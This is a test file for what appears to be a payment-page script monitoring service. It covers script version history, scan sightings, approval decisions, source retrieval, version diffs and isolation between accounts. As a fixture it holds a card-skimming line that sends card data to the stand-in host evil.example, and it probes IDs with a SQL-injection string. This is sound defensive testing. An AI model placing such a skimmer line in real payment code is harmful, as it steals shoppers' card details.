// One script over time: what is told of it, whose code can be read, what two versions have otherwise, and the wall between accounts.
import { randomUUID } from 'node:crypto'
import { decideSchema, type InventoryScript, scriptDiffSchema, scriptHistorySchema } from '@tillwatch/contract/shapes'
import type { Capture } from '@tillwatch/core/capture'
import { describe, expect, it } from 'vitest'
import type { Actor } from '#features/accounts/index.ts'
import { compareVersions, decide, findScriptHistory, getScriptHistory, getVersionSource } from '#features/inventory/index.ts'
import { cancelScan, deleteScan, runScan, startScan } from '#features/scans/index.ts'
import { addPage, claimSite, removePage } from '#features/sites/index.ts'
import { otherActor } from '../../support/context.ts'
import { app, coded, context, list, never, owner, pageId, scan, sha256Of, siteId, tag, test, watchPage } from './watched-page.ts'

watchPage()

const address = 'https://cdn.tags.example/pay.js'
const first = 'function pay(card){return card.length}\npay("")\n'
const second = 'function pay(card){fetch("https://evil.example/?"+card);return card.length}\npay("")\n'
const [one, other] = [sha256Of(first), sha256Of(second)]

const seen = (code: string, page = pageId) => scan([coded(address, code)], () => {}, page, 'desktop', { codes: [code] })
const byHost = async (host: string) => (await list()).scripts.find((script) => script.host === host) as InventoryScript
const idOf = async (host = 'cdn.tags.example') => (await byHost(host)).id
const history = async (id: string, actor: Actor = owner) => scriptHistorySchema.parse(await getScriptHistory(context(), actor, id))

describe('the history of a script', () => {
  it('has each content once, the newest first, with when it was seen and the newest scan that holds it', async () => {
    const scans = [await seen(first), await seen(second), await seen(first)]
    const { versions, script, siteId: site } = await history(await idOf())
    expect(site).toBe(siteId)
    expect(script).toMatchObject({ host: 'cdn.tags.example', versions: 2, sha256: one, authorization: { state: 'undecided' } })
    expect(versions).toMatchObject([
      { sha256: other, firstScanId: scans[1], evidence: { scanId: scans[1], scriptId: 's1' }, isReadable: true, sizeBytes: second.length },
      { sha256: one, firstScanId: scans[0], evidence: { scanId: scans[2], scriptId: 's1' }, isReadable: true, sizeBytes: first.length },
    ])
    expect(Date.parse(versions[1]?.lastSeenAt ?? '')).toBeGreaterThan(Date.parse(versions[0]?.lastSeenAt ?? ''))
  })

  it('tells which evaluated scans saw it and which did not; one that was not evaluated counts for neither', async () => {
    const saw = await seen(first)
    const missed = await scan([app('3f2a9c1b', 'a')])
    await scan([], (capture) => {
      capture.outcome = { status: 'failed', code: 'bot-wall', cause: { code: 'words', values: { text: 'A wall answered.' } }, issues: [] }
    })
    expect((await history(await idOf())).scans).toMatchObject([
      { scanId: missed, isSeen: false, sha256: null },
      { scanId: saw, isSeen: true, sha256: one, profile: 'desktop', isPartial: false },
    ])
  })

  it('names the pages of the site that have it, also one that is watched no more', async () => {
    await seen(first)
    const cart = await addPage(context(), owner, siteId, { url: 'https://shop.example/cart', isPayment: false })
    await cancelScan(context(), owner, cart.lastScan?.id ?? '')
    await seen(first, cart.id)
    await removePage(context(), owner, cart.id)
    const { pages } = await history(await idOf())
    expect(pages).toMatchObject([
      { pageId, isPayment: true, isRemoved: false },
      { pageId: cart.id, url: 'https://shop.example/cart', isPayment: false, isRemoved: true },
    ])
    expect((await history(pages[1]?.scriptId ?? '')).script.pageId).toBe(cart.id)
  })

  it('tells who loaded it, up to the page, and what it loaded, also through others', async () => {
    const initiator = (scriptId: string | null) => ({
      type: scriptId === null ? ('parser' as const) : ('script' as const),
      scriptId,
      url: null,
      line: 3,
      column: 1,
      functionName: null,
      async: false,
      evidence: 'stack' as const,
    })
    const chains: Record<string, Capture['scripts'][number]['initiators']> = {
      s1: [initiator(null)],
      s2: [initiator('s1'), initiator(null)],
      s3: [initiator('s2'), initiator('s1'), initiator(null)],
      s4: [initiator('s3')],
    }
    const named = (name: string) => coded(`https://cdn.tags.example/${name}.js`, first)
    await scan([app('3f2a9c1b', 'a'), coded(address, first), named('child'), named('grandchild'), tag], (capture) => {
      for (const script of capture.scripts) script.initiators = chains[script.id] ?? []
    })
    const { scripts } = await list()
    const pay = scripts.find(({ url }) => url === address)
    const { lastSighting } = await history(pay?.id ?? '')
    expect(lastSighting?.script).toMatchObject({ id: 's2', initiators: [{ scriptId: 's1' }, { scriptId: null }] })
    expect(lastSighting?.related.map(({ id, loadedBy }) => [id, loadedBy])).toEqual([
      ['s1', null],
      ['s3', 's2'],
      ['s4', 's3'],
    ])
    expect(lastSighting?.related[0]?.historyId).toBe(await idOf('shop.example'))
    expect(lastSighting?.frames).toMatchObject([{ id: 'F1' }])
    expect(lastSighting?.script.risk.score).toBe(pay?.risk.score)
  })

  it('ends where scripts claim to have loaded each other', async () => {
    await scan([coded(address, first), tag], (capture) => {
      const by = (scriptId: string) => [
        {
          type: 'script' as const,
          scriptId,
          url: null,
          line: null,
          column: null,
          functionName: null,
          async: false,
          evidence: 'stack' as const,
        },
      ]
      for (const script of capture.scripts) script.initiators = by(script.id === 's1' ? 's2' : 's1')
    })
    expect((await history((await list()).scripts[0]?.id ?? '')).lastSighting?.related).toHaveLength(1)
  })

  it('has every decision that covers it, the newest first, and none on other scripts', async () => {
    await scan([coded(address, first), app('3f2a9c1b', 'a')])
    const id = await idOf()
    const ask = (input: unknown) => decide(context(), owner, siteId, decideSchema.parse(input))
    const why = { reason: 'business', justification: 'Needed to take payments.' }
    await ask({ verdict: 'approve', target: { covers: 'directory', host: 'cdn.tags.example', directory: '/' }, ...why })
    await ask({ verdict: 'reject', target: { covers: 'scripts', scriptIds: [id] } })
    await ask({ verdict: 'reject', target: { covers: 'scripts', scriptIds: [await idOf('shop.example')] } })
    const { decisions, script } = await history(id)
    expect(decisions).toMatchObject([
      { verdict: 'reject', covers: 'script', decidedBy: owner.name },
      { verdict: 'approve', covers: 'directory', subject: 'cdn.tags.example/', ...why },
    ])
    expect(script.authorization.state).toBe('rejected')
  })
})

describe('the way from a script of a scan to its history', () => {
  it('leads to the same identity, also from an older scan with another content', async () => {
    const older = await seen(first)
    await seen(second)
    expect(await findScriptHistory(context(), owner, older, 's1')).toEqual({ history: { siteId, scriptId: await idOf() } })
  })

  it('is none for a script that the scan does not have, and for a scan of an address that is no page of a site', async () => {
    expect(await findScriptHistory(context(), owner, await seen(first), 's99')).toEqual({ history: null })
    const { id } = await startScan(context(), owner, { url: 'https://other.example/', profile: 'desktop', cloakCheck: false })
    await runScan(test.context, id, never)
    expect(await findScriptHistory(context(), owner, id, 's1')).toEqual({ history: null })
  })
})

describe('a version whose scans were deleted', () => {
  it('stays in the history, and says that its code is gone', async () => {
    const scanId = await seen(first)
    const id = await idOf()
    await deleteScan(context(), owner, scanId)
    const told = await history(id)
    expect(told).toMatchObject({ versions: [{ sha256: one, evidence: null, isReadable: false }], lastSighting: null })
    await expect(getVersionSource(context(), owner, id, one, 'raw')).rejects.toMatchObject({
      code: 'not-found',
      message: expect.stringContaining('deleted'),
    })
  })

  it('is read from an older scan that holds the same content', async () => {
    await seen(first)
    await deleteScan(context(), owner, await seen(first))
    expect(await getVersionSource(context(), owner, await idOf(), one, 'raw')).toMatchObject({ text: first })
  })
})

describe('the code of a version', () => {
  it('is given as long as the scan that saw it first is kept, also when its sightings are not kept any more', async () => {
    const scanId = await seen(first)
    const id = await idOf()
    await test.database.db.deleteFrom('script_observations').where('page_script_id', '=', id).execute()
    expect((await history(id)).versions).toMatchObject([{ sha256: one, evidence: { scanId }, isReadable: true }])
    expect((await getVersionSource(context(), owner, id, one, 'raw')).text).toBe(first)
  })

  it('is given as received, and laid out for reading', async () => {
    await seen(first)
    const id = await idOf()
    expect(await getVersionSource(context(), owner, id, one, 'raw')).toEqual({ text: first, form: 'raw', note: null })
    const pretty = await getVersionSource(context(), owner, id, one, 'pretty')
    expect(pretty.form).toBe('pretty')
    expect(pretty.text).toContain('\treturn card.length;\n')
  })

  it('that could not be kept is said to be so, also where another scan kept the same', async () => {
    await seen(first)
    await test.database.db.deleteFrom('artifacts').where('account_id', '=', owner.accountId).where('kind', '=', 'body').execute()
    await scan([coded(address, first)])
    const id = await idOf()
    expect((await history(id)).versions).toMatchObject([{ isReadable: false, evidence: { scriptId: 's1' } }])
    await expect(getVersionSource(context(), owner, id, one, 'raw')).rejects.toMatchObject({
      code: 'not-found',
      message: expect.stringContaining('The code for this content was not stored'),
    })
  })

  it('is not given for a content that another script of the same account has', async () => {
    await scan([coded(address, first), coded('https://shop.example/own.js', second)], () => {}, pageId, 'desktop', {
      codes: [first, second],
    })
    await expect(getVersionSource(context(), owner, await idOf(), other, 'raw')).rejects.toMatchObject({ code: 'not-found' })
  })
})

describe('two versions compared', () => {
  it('differ in the lines of readable code that differ', async () => {
    await seen(first)
    await seen(second)
    const diff = scriptDiffSchema.parse(await compareVersions(context(), owner, await idOf(), { from: one, to: other }))
    expect(diff).toMatchObject({
      form: 'pretty',
      note: null,
      added: 1,
      removed: 0,
      isCut: false,
      from: { sha256: one },
      to: { sha256: other },
    })
    expect(diff.hunks[0]?.rows.filter(({ kind }) => kind === 'added')).toEqual([
      { kind: 'added', text: '\tfetch("https://evil.example/?" + card);', toAt: [1, 20] },
    ])
  })

  it('do not differ where only the layout does', async () => {
    const spaced = first.replaceAll('{', ' {\n\n')
    await seen(first)
    await seen(spaced)
    expect(await compareVersions(context(), owner, await idOf(), { from: one, to: sha256Of(spaced) })).toMatchObject({
      added: 0,
      hunks: [],
    })
  })

  it('are compared as received where one of them cannot be laid out, and say why', async () => {
    const broken = 'function pay( {{{'
    await seen(first)
    await seen(broken)
    const diff = await compareVersions(context(), owner, await idOf(), { from: one, to: sha256Of(broken) })
    expect(diff).toMatchObject({ form: 'raw', note: 'not-javascript', removed: 2, added: 1 })
  })
})

describe('the wall: ', () => {
  it('nobody finds what is not there', async () => {
    for (const id of [randomUUID(), "' or true"])
      for (const verb of [
        () => history(id),
        () => getVersionSource(context(), owner, id, one, 'raw'),
        () => compareVersions(context(), owner, id, { from: one, to: one }),
      ])
        await expect(verb()).rejects.toMatchObject({ code: 'not-found' })
  })

  it('knowing a hash gives nothing: a body that is stored for another account cannot be read under a script of the own', async () => {
    await seen(first)
    const eve = await otherActor(test.database)
    const site = await claimSite(context(), eve, { subscriptionId: null, url: 'https://shop.example/checkout' })
    await cancelScan(context(), eve, site.pages[0]?.lastScan?.id ?? '')
    await scan([coded(address, second)], () => {}, site.pages[0]?.id, 'desktop', { codes: [second], actor: eve })
    const row = await test.database.db
      .selectFrom('page_scripts')
      .select('id')
      .where('account_id', '=', eve.accountId)
      .executeTakeFirstOrThrow()
    expect(await getVersionSource(context(), eve, row.id, other, 'raw')).toMatchObject({ text: second })
    await expect(getVersionSource(context(), eve, row.id, one, 'raw')).rejects.toMatchObject({ code: 'not-found' })
    await expect(compareVersions(context(), eve, row.id, { from: one, to: other })).rejects.toMatchObject({ code: 'not-found' })
    expect((await history(row.id, eve)).versions.map(({ sha256 }) => sha256)).toEqual([other])
  })
})
